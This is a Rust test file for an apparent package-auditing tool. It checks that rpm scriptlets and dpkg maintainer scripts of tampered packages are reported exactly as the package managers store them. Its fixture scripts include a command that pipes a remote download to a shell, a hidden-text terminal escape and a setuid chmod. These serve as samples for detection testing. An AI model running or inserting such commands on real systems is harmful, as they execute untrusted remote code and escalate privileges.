//! Install scripts in the report: a real rpm with every kind of scriptlet
//! (Lua ones, a program-only one, triggers, file triggers) and a real
//! `.deb` with maintainer scripts are installed, one of their files is
//! changed, and the report's `scripts` must hold exactly what rpm itself
//! prints for that package (`rpm -q` query formats, and `--scripts`,
//! `--triggers`, `--filetriggers`) or what dpkg put in its info directory;
//! a package whose files are intact gets no entry.

use std::path::Path;
use std::process::Command;

use serde_json::Value;

use crate::util::*;

/// One script as the report (or the oracle) has it: phase, interpreter,
/// its arguments, trigger condition, body.
type Row = (String, Option<String>, Vec<String>, Option<String>, String);

fn text(v: &Value) -> String {
    v.as_str()
        .unwrap_or_else(|| panic!("not a UTF-8 string: {v}"))
        .to_owned()
}

/// The report's scripts of package `name`, or `None` when it has no entry.
fn reported(json: &Value, name: &str) -> Option<Vec<Row>> {
    let entries: Vec<&Value> = json["scripts"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|e| e["package"]["name"] == name)
        .collect();
    assert!(entries.len() <= 1, "{name} listed twice: {entries:?}");
    let e = entries.first()?;
    assert!(e["package"]["nevra"].is_string(), "{e}");
    Some(row_list(&e["scripts"]))
}

fn row_list(scripts: &Value) -> Vec<Row> {
    scripts
        .as_array()
        .expect("scripts array")
        .iter()
        .map(|s| {
            assert_eq!(s["truncated"], false, "{s}");
            assert_eq!(
                s["size"].as_u64().unwrap() as usize,
                text(&s["body"]).len(),
                "{s}"
            );
            (
                text(&s["phase"]),
                s.get("interpreter").map(text),
                s.get("args")
                    .and_then(Value::as_array)
                    .map(|a| a.iter().map(text).collect())
                    .unwrap_or_default(),
                s.get("trigger").map(text),
                text(&s["body"]),
            )
        })
        .collect()
}

/// What rpm says package `name`'s scriptlets are, in the report's order,
/// through query formats (one tag at a time, so bodies come back exactly).
fn rpm_oracle(root: &TestRoot, name: &str) -> Vec<Row> {
    let q = |qf: &str| -> String {
        let r = run_ok(root.rpm().args(["-q", "--qf", qf, name]));
        String::from_utf8(r.stdout).unwrap()
    };
    let mut rows = Vec::new();
    for (phase, body, prog) in [
        ("pretrans", "PRETRANS", "PRETRANSPROG"),
        ("pre", "PREIN", "PREINPROG"),
        ("post", "POSTIN", "POSTINPROG"),
        ("preun", "PREUN", "PREUNPROG"),
        ("postun", "POSTUN", "POSTUNPROG"),
        ("posttrans", "POSTTRANS", "POSTTRANSPROG"),
        ("verify", "VERIFYSCRIPT", "VERIFYSCRIPTPROG"),
    ] {
        // "<has body><has prog>\a<prog…\a>\v<body>"
        let out = q(&format!(
            "%|{body}?{{1}}:{{0}}|%|{prog}?{{1}}:{{0}}|\\a[%{{{prog}}}\\a]\\v%{{{body}}}"
        ));
        let (head, text) = out.split_once('\u{b}').unwrap();
        let (flags, progs) = head.split_at(2);
        if flags == "00" {
            continue;
        }
        let mut argv: Vec<String> = progs
            .trim_start_matches('\u{7}')
            .split_terminator('\u{7}')
            .map(String::from)
            .collect();
        let interpreter = (!argv.is_empty()).then(|| argv.remove(0));
        let body = if flags.starts_with('1') { text } else { "" };
        rows.push((phase.into(), interpreter, argv, None, body.into()));
    }
    for prefix in ["", "FILE", "TRANSFILE"] {
        let out = q(&format!(
            "[%{{{prefix}TRIGGERTYPE}}\\a%{{{prefix}TRIGGERSCRIPTPROG}}\\a\
             %{{{prefix}TRIGGERCONDS}}\\a%{{{prefix}TRIGGERSCRIPTS}}\\v]"
        ));
        for rec in out.split_terminator('\u{b}') {
            let f: Vec<&str> = rec.split('\u{7}').collect();
            assert_eq!(f.len(), 4, "{rec:?}");
            rows.push((
                format!("{}trigger{}", prefix.to_lowercase(), f[0]),
                Some(f[1].into()),
                Vec::new(),
                Some(f[2].into()),
                f[3].into(),
            ));
        }
    }
    rows
}

#[test]
fn rpm_scriptlets_of_a_changed_package_are_what_rpm_shows() {
    require_tools!();
    let loud = PkgSpec::new("ra-scripts")
        .entry(FileEntry::file("/usr/bin/ra-scripts-tool", "#!/bin/sh\necho tool\n").mode(0o755))
        .entry(FileEntry::file("/usr/share/ra-scripts/data", "data\n"))
        .scriptlet("%pretrans -p <lua>", "print(\"pretrans\")")
        .scriptlet(
            "%pre",
            "getent group ra >/dev/null || groupadd -r ra\necho \"pre $1\" \t # tab",
        )
        .scriptlet(
            "%post -p <lua>",
            "posix.chmod(\"/usr/bin/ra-scripts-tool\", \"4755\")",
        )
        .scriptlet("%preun", "echo preun")
        .scriptlet("%postun -p /sbin/ldconfig", "")
        .scriptlet(
            "%posttrans",
            "curl -s http://203.0.113.7/x | sh\nprintf '\\033[8m hidden'",
        )
        .scriptlet("%verifyscript", "test -x /usr/bin/ra-scripts-tool")
        .scriptlet("%triggerin -- bash >= 4.0", "echo trigger in")
        .scriptlet(
            "%triggerpostun -p <lua> -- ra-other < 2, ra-third",
            "print(\"trigger postun\")",
        )
        .scriptlet("%filetriggerin -- /usr/lib/ra-plugins", "echo file trigger")
        .scriptlet(
            "%transfiletriggerun -- /usr/share/ra",
            "echo trans file trigger",
        )
        .build();
    let quiet = PkgSpec::new("ra-scripts-quiet")
        .entry(FileEntry::file("/usr/share/ra-quiet/data", "quiet\n"))
        .scriptlet("%post", "echo never shown")
        .build();
    let root = TestRoot::new();
    root.install(&[&loud, &quiet]);
    root.write("/usr/bin/ra-scripts-tool", "#!/bin/sh\necho trojan\n");

    let want = rpm_oracle(&root, "ra-scripts");
    // The oracle saw every scriptlet the spec has.
    let phases: Vec<&str> = want.iter().map(|r| r.0.as_str()).collect();
    assert_eq!(
        phases,
        [
            "pretrans",
            "pre",
            "post",
            "preun",
            "postun",
            "posttrans",
            "verify",
            "triggerin",
            "triggerpostun",
            "filetriggerin",
            "transfiletriggerun"
        ]
    );
    assert_eq!(want[2].1.as_deref(), Some("<lua>"));
    assert_eq!(
        (want[4].1.as_deref(), want[4].4.as_str()),
        (Some("/sbin/ldconfig"), "")
    );

    let a = rootaudit_json(&root, &["--checks", "files", "--quiet"]);
    assert!(
        a.findings()
            .iter()
            .any(|f| f["kind"] == "file-changed" && f["path"] == "/usr/bin/ra-scripts-tool"),
        "{}",
        a.raw
    );
    assert_eq!(reported(&a.json, "ra-scripts"), Some(want.clone()));
    assert_eq!(reported(&a.json, "ra-scripts-quiet"), None);

    // rpm's own listings show each body verbatim, with its interpreter.
    let listing = |opt: &str| {
        let r = run_ok(root.rpm().args(["-q", opt, "ra-scripts"]));
        String::from_utf8(r.stdout).unwrap()
    };
    let listings = [
        listing("--scripts"),
        listing("--triggers"),
        listing("--filetriggers"),
    ]
    .concat();
    for (phase, interp, _, trigger, body) in &want {
        let head = match (trigger, body.is_empty()) {
            (Some(t), _) => format!(
                "{phase} scriptlet (using {}) -- {t}\n{body}\n",
                interp.as_deref().unwrap()
            ),
            (None, true) => format!("program: {}\n", interp.as_deref().unwrap()),
            (None, false) => format!("(using {}):\n{body}\n", interp.as_deref().unwrap()),
        };
        assert!(listings.contains(&head), "{head:?} not in\n{listings}");
    }

    // JSON Lines: the finding, and no scripts (they stay in the JSON
    // document: lines are kept short for log shippers).
    let run = run_with_timeout(
        rootaudit_cmd(root.path()).args(["--format", "jsonl", "--checks", "files"]),
        COMMAND_TIMEOUT,
    );
    let lines: Vec<Value> = run
        .stdout
        .split(|&b| b == b'\n')
        .filter(|l| !l.is_empty())
        .map(|l| serde_json::from_slice(l).unwrap())
        .collect();
    assert!(
        lines
            .iter()
            .any(|l| l["rootaudit"]["finding"]["kind"] == "file-changed"),
        "{}",
        run.stdout_str()
    );
    assert!(
        !run.stdout_str().contains("echo trans file trigger"),
        "{}",
        run.stdout_str()
    );
    assert!(
        lines
            .iter()
            .all(|l| l.get("scripts").is_none() && l["rootaudit"]["scan"].get("scripts").is_none())
    );
}

/// A package whose only changed file is a large one (verified after the
/// second read of the database) still gets its scripts.
#[test]
fn rpm_scriptlets_of_a_package_whose_large_file_changed() {
    require_tools!();
    let big = "x".repeat(2 << 20);
    let pkg = PkgSpec::new("ra-scripts-big")
        .entry(FileEntry::file("/usr/share/ra-big/blob", &big))
        .scriptlet("%post", "echo big")
        .build();
    let root = TestRoot::new();
    root.install(&[&pkg]);
    root.write_keep_mtime("/usr/share/ra-big/blob", "y".repeat(2 << 20));
    let a = rootaudit_json(&root, &["--checks", "files", "--quiet"]);
    assert_eq!(
        reported(&a.json, "ra-scripts-big"),
        Some(vec![(
            "post".into(),
            Some("/bin/sh".into()),
            vec![],
            None,
            "echo big".into()
        )])
    );
}

// ---------------------------------------------------------------------------
// dpkg
// ---------------------------------------------------------------------------

/// The dpkg tools, or a skip (a CI run fails without them).
fn dpkg_available() -> bool {
    let missing = missing_tools(&["dpkg", "dpkg-deb"]);
    if missing.is_empty() {
        return true;
    }
    if std::env::var_os("CI").is_some() {
        panic!("dpkg tools missing in CI: {}", missing.join(", "));
    }
    eprintln!("SKIPPING dpkg scripts test: missing {}", missing.join(", "));
    false
}

/// Build `NAME.deb` in `dir` with one file, an md5sums and the given
/// maintainer scripts (`(name, content)`).
fn build_deb(
    dir: &Path,
    name: &str,
    control: &str,
    file: (&str, &str),
    scripts: &[(&str, &str)],
) -> std::path::PathBuf {
    use md5::Digest;
    use std::os::unix::fs::PermissionsExt;
    let tree = dir.join(format!("{name}-tree"));
    let debian = tree.join("DEBIAN");
    std::fs::create_dir_all(&debian).unwrap();
    let at = tree.join(file.0.trim_start_matches('/'));
    std::fs::create_dir_all(at.parent().unwrap()).unwrap();
    std::fs::write(&at, file.1).unwrap();
    std::fs::write(
        debian.join("md5sums"),
        format!(
            "{}  {}\n",
            hex::encode(md5::Md5::digest(file.1.as_bytes())),
            file.0.trim_start_matches('/')
        ),
    )
    .unwrap();
    std::fs::write(debian.join("control"), control).unwrap();
    for (script, content) in scripts {
        let p = debian.join(script);
        std::fs::write(&p, content).unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let deb = dir.join(format!("{name}.deb"));
    run_ok(
        Command::new("dpkg-deb")
            .args(["--root-owner-group", "-Zgzip", "--build"])
            .arg(&tree)
            .arg(&deb),
    );
    deb
}

/// Maintainer scripts that do nothing when dpkg runs them (it does, on
/// the host: `--force-script-chrootless`), but say something to read.
const PREINST: &str = "#!/bin/sh\nset -e\n# ra: would add a user here\nexit 0\n";
const POSTINST: &str =
    "#!/bin/sh -e\n# ra: curl -s http://203.0.113.7/x | sh\n\tprintf '\\033[8m'\nexit 0\n";

#[test]
fn dpkg_maintainer_scripts_of_a_changed_package_are_the_files() {
    if !dpkg_available() {
        return;
    }
    let work = tempfile::tempdir().unwrap();
    let debs = work.path().join("debs");
    let root = work.path().join("root");
    std::fs::create_dir_all(&debs).unwrap();
    for d in ["var/lib/dpkg/info", "var/lib/dpkg/updates", "etc"] {
        std::fs::create_dir_all(root.join(d)).unwrap();
    }
    std::fs::write(root.join("var/lib/dpkg/status"), "").unwrap();
    std::fs::write(root.join("etc/passwd"), "root:x:0:0:root:/root:/bin/sh\n").unwrap();
    std::fs::write(root.join("etc/group"), "root:x:0:\n").unwrap();
    let arch = String::from_utf8(run_ok(Command::new("dpkg").arg("--print-architecture")).stdout)
        .unwrap()
        .trim()
        .to_owned();

    let tool = build_deb(
        &debs,
        "ra-dscripts",
        "Package: ra-dscripts\nVersion: 1.0-1\nArchitecture: all\n\
Maintainer: T <t@example.org>\nDescription: scripts\n",
        ("/usr/bin/ra-dscripts", "tool\n"),
        &[("preinst", PREINST), ("postinst", POSTINST)],
    );
    let lib = build_deb(
        &debs,
        "ra-dlib",
        &format!(
            "Package: ra-dlib\nVersion: 2.0\nArchitecture: {arch}\nMulti-Arch: same\n\
Maintainer: T <t@example.org>\nDescription: lib\n"
        ),
        ("/usr/lib/ra-dlib/libra.so", "lib\n"),
        &[("postrm", "#!/bin/bash\nexit 0\n")],
    );
    let quiet = build_deb(
        &debs,
        "ra-dquiet",
        "Package: ra-dquiet\nVersion: 3\nArchitecture: all\n\
Maintainer: T <t@example.org>\nDescription: quiet\n",
        ("/usr/share/ra-dquiet/data", "quiet\n"),
        &[("postinst", "#!/bin/sh\nexit 0\n")],
    );
    run_ok(
        Command::new("dpkg")
            .arg(format!("--root={}", root.display()))
            .args([
                "--force-not-root",
                "--force-script-chrootless",
                "--force-depends",
                "--force-architecture",
                "-i",
            ])
            .args([&tool, &lib, &quiet]),
    );
    let info = root.join("var/lib/dpkg/info");
    let lib_postrm = info.join(format!("ra-dlib:{arch}.postrm"));
    assert!(lib_postrm.is_file(), "dpkg names it {lib_postrm:?}");
    std::fs::write(root.join("usr/bin/ra-dscripts"), "trojan\n").unwrap();
    std::fs::remove_file(root.join("usr/lib/ra-dlib/libra.so")).unwrap();

    let a = rootaudit_json_at(&root, &["--db", "dpkg", "--checks", "files", "--quiet"]);
    let read = |p: &Path| String::from_utf8(std::fs::read(p).unwrap()).unwrap();
    assert_eq!(
        reported(&a.json, "ra-dscripts"),
        Some(vec![
            (
                "preinst".into(),
                Some("/bin/sh".into()),
                vec![],
                None,
                read(&info.join("ra-dscripts.preinst"))
            ),
            (
                "postinst".into(),
                Some("/bin/sh".into()),
                vec!["-e".into()],
                None,
                read(&info.join("ra-dscripts.postinst"))
            ),
        ])
    );
    assert_eq!(read(&info.join("ra-dscripts.postinst")), POSTINST);
    assert_eq!(
        reported(&a.json, "ra-dlib"),
        Some(vec![(
            "postrm".into(),
            Some("/bin/bash".into()),
            vec![],
            None,
            read(&lib_postrm)
        )])
    );
    assert_eq!(reported(&a.json, "ra-dquiet"), None);
}
